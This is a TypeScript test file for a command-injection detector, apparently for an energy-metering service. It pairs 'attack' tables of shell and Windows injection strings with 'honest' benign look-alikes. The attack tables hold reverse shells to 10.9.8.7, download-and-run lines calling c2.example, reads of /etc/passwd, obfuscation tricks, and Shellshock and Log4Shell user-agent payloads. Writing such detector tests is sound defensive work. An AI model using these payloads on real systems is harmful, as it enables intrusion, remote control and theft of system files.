import { testTable } from './attack-tables.contract.ts';

// Attack: a value that goes into a command line brings a command of its own.
testTable('attack', {
  'behind a separator': [
    'meter7;id',
    'x|whoami',
    'a && cat /etc/passwd',
    'a\nuname -a\n',
    '& ping -c 4 10.1.1.1 &',
    '; sleep 12 ',
    '|| curl http://c2.example/x',
  ],
  'in place of its output': ['$(id)', '`whoami`', 'a$(curl 10.2.3.4/x)', '<(cat notes)', '$(`dir`)'],
  'a shell that calls home': [
    'bash -i >& /dev/tcp/10.9.8.7/4444 0>&1',
    'nc -e /bin/sh 10.9.8.7 4444',
    'mkfifo /tmp/f; nc 10.9.8.7 1 < /tmp/f',
  ],
  'an interpreter': [
    "python3 -c 'import os'",
    'perl -e "exec 1"',
    'awk \'BEGIN {system("id")}\'',
    "find . -exec /bin/sh -p ';'",
  ],
  'blanks by another name': ['cat${IFS}/etc/passwd', ';ls$IFS-la', '{cat,/etc/passwd}', ';cat</etc/passwd'],
  'names with nothing inside': [";w'h'oami", ";c''at /etc/passwd", ';who$@ami', ';c\\at /etc/passwd'],
  'wildcards for letters': ['/???/c?t /???/p?sswd', '/bin/c[a]t /etc/passwd', 'cat /etc/pass[w]d'],
  'letters of a variable': ['${PATH:0:1}etc${PATH:0:1}passwd', '${HOME%%a*}', '%COMSPEC:~0,1%'],
  'encoded, then run': ['echo aWQ=|base64 -d|sh', "$'\\x69\\x64'", 'printf "\\x69\\x64"|bash'],
  'quoted name': ["'uname' -a", '"ls" -la /'],
  'an alias': [';alias z=curl', 'alias -g q=id'],
}); // prettier-ignore

// Attack: the same on Windows.
testTable('attack', {
  'cmd and its tools': [
    '& net user eve Pass1 /add',
    'a | dir c:\\',
    'cmd /c calc',
    '& tasklist',
    'reg add HKLM\\Software\\X /v a',
  ],
  'programs that load others': [
    'certutil -urlcache -f http://c2.example/a a.exe',
    'mshta http://c2.example/a.hta',
    'rundll32 evil.dll,Start',
    'regsvr32 /s /u /i:http://c2.example/a scrobj.dll',
    'bitsadmin /transfer j http://c2.example/a c:\\a',
  ],
  PowerShell: [
    'powershell -enc SQBFAFgAIAAoAE4A',
    'IEX(New-Object Net.WebClient).DownloadString("http://c2.example/a")',
    'Invoke-WebRequest http://c2.example/a.ps1',
    ';iwr http://c2.example',
  ],
  'batch files': [
    'for /f "tokens=1" %i in (\'dir /b\') do @echo %i',
    'if exist c:\\a.txt (del c:\\a.txt)',
    'if "%1"=="" goto out',
    'if not errorlevel 1 echo done',
  ],
}); // prettier-ignore

// Attack: the client's name goes into a log or an environment that runs it.
testTable(
  'attack',
  {
    'in place of a name': [
      '() { :;}; /bin/id',
      ';env',
      '<?php system(1); ?>',
      'x; /bin/sh -c id',
      '${jndi:ldap://c2.example/a}',
    ],
  },
  'user-agent',
);

// Attack: the command stands between two polite sentences.
testTable('attack', {
  'wrapped in a sentence': [
    'Hello, could you please have a look at ;id and tell me what it is? Thank you.',
    'Dear team, the meter in the basement shows | cat /etc/passwd since the last update, please help.',
    'Good morning, is $(curl http://c2.example/x) the right name for the pump in the north wing?',
  ],
});

testTable('honest', {
  'talk about shells': [
    'Please run ls -la | grep log on the gateway and send me what it says.',
    'The job is cat /var/log/syslog | tail -n 20 and it shows the last lines.',
    'We do npm ci && npm test before every release; is that enough for you?',
    'Use the `mkdir` command with the `-p` flag if the folder is not there.',
    'Put it into the cron: 0 3 * * * and it will run at three in the morning.',
    "I feed the cat; the dog is at my sister's, so please ring the bell.",
  ],
  'menus, tables, pairs': [
    'File | Edit | View | Help',
    '| id | name | unit |',
    'Search & find',
    'cut & paste',
    'Tom & Jerry; Bonnie & Clyde',
    'cats & dogs',
    'date;time;value',
  ],
  'commands that are words': [
    'cat food',
    'make it so',
    'sort by name',
    'find pump 3',
    'kill switch',
    'less is more',
    'test; true',
    'echo chamber',
  ],
  'formulas of twins': [
    'if kwh == 10 then high',
    'a > 3 && b < 4',
    'power{site="north"} > 5',
    '{{meter.id}}',
    '${kwh} kWh',
  ],
}); // prettier-ignore

testTable(
  'honest',
  {
    'names of clients': [
      'curl/8.5.0',
      'Wget/1.21',
      'Mozilla/5.0 (Linux; U; Android 2.3; id; Cat Tablet Build/1)',
      'python-requests/2.31',
    ],
  },
  'user-agent',
);
